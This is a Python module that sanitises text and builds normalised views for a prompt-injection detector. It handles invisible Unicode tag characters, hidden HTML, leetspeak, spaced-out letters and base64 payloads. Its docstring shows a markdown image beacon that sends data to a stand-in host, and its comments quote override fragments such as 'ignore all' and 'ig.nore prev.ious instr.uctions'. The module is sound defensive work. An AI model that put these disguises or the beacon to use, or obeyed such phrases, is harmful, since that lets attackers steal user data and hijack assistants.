"""The input layer's first pass: what a model should not be sent, and what it must not miss.

:func:`sanitise` strips control and zero-width characters (and Unicode "tag" characters, which
can spell out an invisible ASCII message) and surfaces hidden text: HTML comments, elements
styled invisible, markdown image links whose URL carries data (the classic exfiltration beacon:
``![x](https://evil.example/p?d=...)``). :func:`views` gives the injection detector the text
as a few normalised views (case, whitespace, confusable letters, spaced-out letters, leetspeak,
base64 and hex payloads decoded), so one phrasing rule catches many disguises.
"""

from __future__ import annotations

import base64
import binascii
import re
import unicodedata
from dataclasses import dataclass, field
from itertools import compress

#: Zero-width, bidi-control and other invisible formatting characters.
_INVISIBLE = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180e\u200b-\u200f\u202a-\u202e"
    "\u2060-\u2064\u2066-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0]"
)
#: C0/C1 controls except tab, newline and carriage return.
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
#: Unicode tag characters (U+E0000..U+E007F) mirror ASCII invisibly.
_TAGS = re.compile("[\U000e0000-\U000e007f]+")

_COMMENT = re.compile(r"<!--(.*?)(?:-->|$)", re.S)
_HIDDEN_EL = re.compile(
    r"<(\w+)[^>]*style\s*=\s*['\"][^'\"]*(?:display\s*:\s*none|visibility\s*:\s*hidden|"
    r"font-size\s*:\s*0|opacity\s*:\s*0(?![.\d]*[1-9]))[^'\"]*['\"][^>]*>(.*?)</\1>"
    r"|<(\w+)\s[^>]*(?:\bhidden\b|aria-hidden\s*=\s*['\"]true|class\s*=\s*['\"][^'\"]*\b(?:hidden|"
    r"sr-only|visually-hidden)\b)[^>]*>(.*?)</\3>",
    re.S | re.I,
)
_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?[^)]*\)")
_DATA_URL = re.compile(r"[?&#][^=\s]+=|\{|%7b|\$\{|base64", re.I)


@dataclass(frozen=True)
class Sanitised:
    """A text with invisible characters removed, and what was hidden in it."""

    text: str
    #: How many invisible or control characters were removed.
    removed: int = 0
    #: Hidden text surfaced: ("html_comment" | "hidden_element" | "tag_characters" |
    #: "image_url", the text).
    hidden: list[tuple[str, str]] = field(default_factory=list)

    @property
    def changed(self) -> bool:
        return bool(self.removed or self.hidden)


def sanitise(text: str) -> Sanitised:
    """Strip invisible characters and collect hidden text (the text itself keeps comments and
    images: the quarantine markers and the trace show them; the detector reads them)."""
    hidden: list[tuple[str, str]] = []
    if text.isascii():  # the common case: no tags, no invisible characters; one C pass
        cleaned = text.encode("ascii").translate(None, _CONTROL_BYTES).decode("ascii")
        n_ctl = len(text) - len(cleaned)
        return _surfaced(cleaned, n_ctl, hidden)
    for m in _TAGS.finditer(text):
        decoded = "".join(chr(ord(c) - 0xE0000) for c in m.group(0) if ord(c) < 0xE007F)
        if decoded.strip():
            hidden.append(("tag_characters", decoded))
    cleaned, n_tags = _TAGS.subn("", text)
    cleaned, n_inv = _INVISIBLE.subn("", cleaned)
    cleaned, n_ctl = _CONTROL.subn("", cleaned)
    removed = sum(len(m.group(0)) for m in _TAGS.finditer(text)) if n_tags else 0
    return _surfaced(cleaned, removed + n_inv + n_ctl, hidden)


#: Everything :func:`sanitise` removes, in one class.
_REMOVED = re.compile(f"{_TAGS.pattern}|{_INVISIBLE.pattern}|{_CONTROL.pattern}")


def invisible_map(text: str) -> tuple[str, list[int] | None]:
    """``text`` without what :func:`sanitise` removes, and for each character kept its index
    in ``text`` (``None`` when nothing was removed): lets a search of the cleaned text report
    offsets into the text as given."""
    if not _REMOVED.search(text):
        return text, None
    index: list[int] = []
    kept: list[str] = []
    at = 0
    for m in _REMOVED.finditer(text):
        index.extend(range(at, m.start()))
        kept.append(text[at : m.start()])
        at = m.end()
    index.extend(range(at, len(text)))
    kept.append(text[at:])
    return "".join(kept), index


_CONTROL_DEL = {c: None for c in [*range(0, 9), 11, 12, *range(14, 32), *range(127, 160)]}
#: The ASCII ones, for ``bytes.translate`` (one C pass, no dictionary lookup per character).
_CONTROL_BYTES = bytes(c for c in _CONTROL_DEL if c < 128)


def _surfaced(cleaned: str, removed: int, hidden: list[tuple[str, str]]) -> Sanitised:
    """``cleaned`` with its hidden text (comments, invisible elements, data-carrying images)."""
    if "<!--" in cleaned:
        hidden += [("html_comment", m.group(1).strip()) for m in _COMMENT.finditer(cleaned)]
    if "<" in cleaned and ("style" in cleaned or "hidden" in cleaned or "sr-only" in cleaned):
        hidden += [
            ("hidden_element", (m.group(2) or m.group(4) or "").strip())
            for m in _HIDDEN_EL.finditer(cleaned)
        ]
    if "![" in cleaned:
        hidden += [
            ("image_url", m.group(2))
            for m in _IMAGE.finditer(cleaned)
            if _DATA_URL.search(m.group(2))
        ]
    return Sanitised(cleaned, removed, hidden)


# -- normalised views for the detector ------------------------------------------------------

#: Letters from other scripts that look like Latin ones (the common confusables).
_CONFUSABLES = str.maketrans(
    {
        "а": "a", "е": "e", "о": "o", "р": "p", "с": "c", "у": "y", "х": "x", "і": "i",
        "ј": "j", "ѕ": "s", "ԁ": "d", "ɡ": "g", "һ": "h", "ӏ": "l", "ո": "n", "ս": "u",
        "α": "a", "ε": "e", "ι": "i", "ο": "o", "ρ": "p", "τ": "t", "υ": "u", "ν": "v",
        "κ": "k", "η": "n", "ѵ": "v", "ԝ": "w", "ɑ": "a", "ı": "i", "ȷ": "j",
    }
)  # fmt: skip
_LEET = str.maketrans({"0": "o", "1": "i", "3": "e", "4": "a", "5": "s", "7": "t", "@": "a",
                       "$": "s", "!": "i", "|": "l"})  # fmt: skip
_LEET_L = str.maketrans({**{chr(k): v for k, v in _LEET.items()}, "1": "l"})
_SPACE = re.compile(r"\s+")
#: Letters spelled out one at a time: "i g n o r e", "i.g.n.o.r.e", "i-g-n-o-r-e".
_SPACED = re.compile(r"(?<!\w)(?:\w(?:[ .\-_*]|\s{2,}){1,3}){4,}\w(?!\w)")
_B64 = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}|[A-Za-z0-9_-]{20,}={0,2}")
_HEX = re.compile(r"(?:\\x)?(?:[0-9a-fA-F]{2}(?:\\x|[ :])?){10,}")


def _byte_class(chars: str) -> bytes:
    """A ``bytes.translate`` table: ``chars`` to ``a``, every other byte to a space."""
    return bytes(ord("a") if chr(i) in chars else ord(" ") for i in range(256))


_LOWER_DIGITS = "abcdefghijklmnopqrstuvwxyz0123456789"
#: The characters of ``_B64``'s two alternatives and of ``_HEX`` (its ``\\x`` and ``:``
#: too), lower case: a run of ``a`` in the translated text is a run of them.
_B64_BYTES = _byte_class(_LOWER_DIGITS + "+/")
_B64URL_BYTES = _byte_class(_LOWER_DIGITS + "_-")
_HEX_BYTES = _byte_class("0123456789abcdef:\\x")
#: All three classes at once: no run of 16 of them, no payload (one pass for most texts).
_ANY_RUN_BYTES = _byte_class(_LOWER_DIGITS + "+/_-:\\x")
_RUN16, _RUN20 = b"a" * 16, b"a" * 20
_PRINTABLE = re.compile(r"^[\x20-\x7e\s\u00a0-\uffff]*$")


def _decoded(raw: bytes) -> str | None:
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return None
    letters = sum(c.isalpha() or c == " " for c in text)
    if len(text) < 6 or letters < 0.7 * len(text) or not _PRINTABLE.match(text):
        return None
    return text


def decoded_payloads(text: str) -> list[str]:
    """Base64 and hex runs in ``text`` that decode to readable text."""
    found: list[str] = []
    # Payloads hold no whitespace: only the long words can be one (one C split, not a regular
    # expression tried at every position of the text).
    words = text.split()
    long_words = list(compress(words, map((16).__le__, map(len, words))))  # at C speed
    for m in (m for w in long_words for m in _B64.finditer(w)):
        s = m.group(0)
        if s.isalpha() and (s.islower() or s.isupper()):
            continue  # a long word, not base64
        try:
            raw = base64.b64decode(
                s + "=" * (-len(s) % 4), altchars=b"-_" if "-" in s or "_" in s else None
            )
        except (binascii.Error, ValueError):
            continue
        if (t := _decoded(raw)) is not None:
            found.append(t)
    for m in (m for w in long_words for m in _HEX.finditer(w)):
        digits = re.sub(r"\\x|[ :]", "", m.group(0))
        try:
            raw = bytes.fromhex(digits)
        except ValueError:
            continue
        if (t := _decoded(raw)) is not None:
            found.append(t)
    return found


def _drop_links(view: str) -> str:
    """``view`` (single-spaced) without the words that hold an address (``@``, ``//``,
    ``www.``)."""
    spans: list[tuple[int, int]] = []
    for needle in ("@", "//", "www."):
        i = view.find(needle)
        while i >= 0:
            lo = view.rfind(" ", 0, i) + 1
            hi = view.find(" ", i)
            hi = len(view) if hi < 0 else hi
            spans.append((lo, hi))
            i = view.find(needle, hi)
    out: list[str] = []
    at = 0
    for lo, hi in sorted(spans):
        if lo >= at:
            out.append(view[at:lo])
        at = max(at, hi)
    out.append(view[at:])
    return "".join(out)


def fold(text: str) -> str:
    """Case, compatibility forms (full-width, ligatures), accents kept, whitespace collapsed."""
    return _SPACE.sub(" ", unicodedata.normalize("NFKC", text).casefold()).strip()


def _join(m: re.Match[str]) -> str:
    """ "i g n o r e  a l l" -> "ignore all": one separator inside a word, two between words;
    "f-o-r-g-e-t y-o-u-r" -> "forget your": with another separator inside words, a space is
    between words."""
    run = m.group(0)
    inside = r"[ .\-_*]{2,}|\s{2,}" if _SPACE_INSIDE.search(run) else r"[.\-_*]{2,}|\s+"
    words = re.split(inside, run)
    return " ".join(re.sub(r"[ .\-_*]", "", w) for w in words)


def views(text: str) -> list[tuple[str, str]]:
    """The texts the detector reads, labelled: the folded text (``plain``), its confusable
    letters and leetspeak undone (``confusables``, ``leet``), spaced-out words joined up
    (``spaced``), and any decoded base64/hex payload (``decoded``, folded too)."""
    ascii_only = text.isascii()
    parts: list[str] = []
    if ascii_only:  # NFKC and casefold are lower() on ASCII
        raw = text.lower()
        # " ".join(raw.split()) without the list: whitespace to spaces through a byte table,
        # runs of spaces halved until none is left
        base = raw.encode("ascii").translate(_WS_BYTES).decode("ascii")
        while "  " in base:
            base = base.replace("  ", " ")
        base = base.strip(" ")
    else:
        raw = unicodedata.normalize("NFKC", _INVISIBLE.sub("", text)).casefold()
        parts = raw.split()
        base = " ".join(parts)
    out = [("plain", base)]
    latin = base
    if not ascii_only:
        latin = base.translate(_CONFUSABLES)
        if latin != base:
            out.append(("confusables", latin))
            parts = latin.split()
        raw = raw.translate(_CONFUSABLES)
        plain = "".join(
            c for c in unicodedata.normalize("NFKD", latin) if not unicodedata.combining(c)
        )
        if plain != latin:
            out.append(("accents", plain))
    # An address's @ and dots are not a disguise: the disguise tests read the text without
    # the words holding one. Both tests look at a character and its neighbours inside a word,
    # and dropping whole words keeps every other word's neighbours, so what they find without
    # the links they also find with them: one search of the text without links decides.
    leetish = any(c in latin for c in "013457@$|")
    inword = "." in latin or "*" in latin or "_" in latin or "·" in latin
    if "@" in latin or "//" in latin or "www." in latin:
        unlinked = _drop_links(latin) if leetish or inword else latin
    else:
        unlinked = latin
    if leetish and _leetish(unlinked, ascii_only):
        out.append(("leet", latin.translate(_LEET)))
        if _LEET_1.search(unlinked):  # 1 stands for l as often as for i
            out.append(("leet", latin.translate(_LEET_L)))
    if _maybe_spaced(latin, ascii_only) and _SPACED.search(raw):
        out.append(("spaced", " ".join(_SPACED.sub(_join, raw).split())))
    if inword and _inword3(unlinked, ascii_only):
        # punctuation inside words: "ig.nore prev.ious instr.uctions"
        out.append(("joined", _INWORD_SUB.sub("", latin)))
    if ascii_only:
        # A payload is a base64 or hex run (no whitespace in it): the lower-cased text has the
        # same runs (the classes ignore case), and three byte-table passes tell whether any
        # run is long enough to be one.
        b = raw.encode("ascii")
        if _RUN16 in b.translate(_ANY_RUN_BYTES) and (
            _RUN16 in b.translate(_B64_BYTES)
            or _RUN20 in b.translate(_B64URL_BYTES)
            or _RUN20 in b.translate(_HEX_BYTES)
        ):
            out += [("decoded", fold(p)) for p in decoded_payloads(text)]
    elif max(map(len, parts), default=0) >= 16:
        out += [("decoded", fold(p)) for p in decoded_payloads(text)]
    return out


def _leetish(view: str, ascii_only: bool) -> bool:
    """Whether ``_LEETISH`` finds something in ``view``. A match is a letter, leet characters
    and a letter ("h4ck"), or a leet digit after no word character followed by two letters
    ("4ll"): in ASCII text the letter-then-leet or leet-then-two-letters pairs it needs are
    looked for first, in a byte-table image of the text (one C pass, no regex per digit)."""
    if ascii_only:
        t = view.encode("ascii").translate(_LEET_BYTES)
        if b"ad" not in t and b"daa" not in t:
            return False
    return _LEETISH.search(view) is not None


def _maybe_spaced(latin: str, ascii_only: bool) -> bool:
    """The pre-test for spaced-out letters: four one-character words in a row, or a
    character between separators twice (``_FOUR_SINGLE``, ``_DOTTED``); in ASCII text (single
    spaces: the view is split and joined) looked for in byte images of it."""
    if not ascii_only:
        return bool(_FOUR_SINGLE.search(f" {latin} ") or _DOTTED.search(latin))
    b = latin.encode("ascii")
    if b" x x x x " in b" " + b.translate(_WORD_BYTES) + b" ":
        return True
    # "p[wp]p[wp]p" in an image where every separator is p (a literal first: a C-speed skip
    # from one to the next) holds whenever ``_DOTTED`` matches ("_" is a separator and a
    # word character); the pattern itself decides
    return _DOTTED_GATE.search(b.translate(_DOTTED_IMAGE)) is not None and bool(
        _DOTTED.search(latin)
    )


def _inword3(view: str, ascii_only: bool) -> bool:
    """Three or more ``_INWORD`` matches (punctuation between two letters) in ``view``; in
    ASCII text only when a byte image holds three letter-then-punctuation pairs."""
    if ascii_only:
        t = view.encode("ascii").translate(_SHAPE_BYTES)
        if t.count(b"pl") + t.count(b"ul") < 3:  # punctuation then a letter, three times
            return False
    return len(_INWORD.findall(view)) >= 3


#: Non-space -> x (ASCII).
_WORD_BYTES = bytes(ord(" ") if i == 32 else ord("x") for i in range(256))
#: Letters -> l, digits -> d, "_" -> u, "." and "*" -> p, "-" -> h, space -> " ", other -> o.
_SHAPE_BYTES = bytes(
    ord(
        "l" if chr(i).isalpha() else "d" if chr(i).isdigit() else "u" if chr(i) == "_"
        else "p" if chr(i) in ".*" else "h" if chr(i) == "-" else " " if i == 32 else "o"
    )
    for i in range(128)
) + b"o" * 128  # fmt: skip
#: Separators ([.-_*]) -> p, other word characters -> w, the rest -> a space.
_DOTTED_IMAGE = bytes(
    ord("p" if chr(i) in ".-_*" else "w" if chr(i).isalnum() else " ") for i in range(128)
) + b" " * 128  # fmt: skip
_DOTTED_GATE = re.compile(rb"p[wp]p[wp]p")

#: [a-z] -> a, leet characters -> d, other word characters -> w (the leet symbols are d too:
#: "ad" or "daa" must be in the image of a text with a match, which is all the test needs).
_LEET_BYTES = bytes(
    ord(
        "a" if "a" <= chr(i) <= "z"
        else "d" if chr(i) in "013457@$|!"
        else "w" if chr(i).isalnum() or chr(i) == "_"
        else " "
    )
    for i in range(128)
) + b" " * 128  # fmt: skip

#: The ASCII characters ``str.split`` cuts on, to spaces.
_WS_BYTES = bytes(32 if chr(i).isspace() and i < 128 else i for i in range(256))

#: Cheap pre-tests (each starts with a literal or a small class, so the search skips ahead).
_FOUR_SINGLE = re.compile(r" \S \S \S \S ")
#: A letter, a space, a letter, a space: a space inside a spaced-out word.
_SPACE_INSIDE = re.compile(r"(?<![^\W\d_])[^\W\d_] [^\W\d_] [^\W\d_]")
#: Punctuation between two letters inside a word (not a hyphen: hyphenated words are common).
_INWORD = re.compile(r"[.*_·](?<=[^\W\d_][.*_·])(?=[^\W\d_])")  # the class first: C-speed skip
_INWORD_SUB = _INWORD
_DOTTED = re.compile(r"[.\-_*]\w[.\-_*]\w[.\-_*]")
_LEET_1 = re.compile(r"1(?:(?<=[a-z]1)|(?=[a-z]))")  # "[a-z]1|1[a-z]", the literal first
#: A leet character between letters, or a leet digit starting a word: the class first, so the
#: search skips at C speed to the next candidate character.
_LEETISH = re.compile(
    r"[013457@$|!](?:(?<=[a-z][013457@$|!])[013457@$|!]*[a-z]|(?<!\w[013457])(?<=[013457])[a-z]{2})"
)
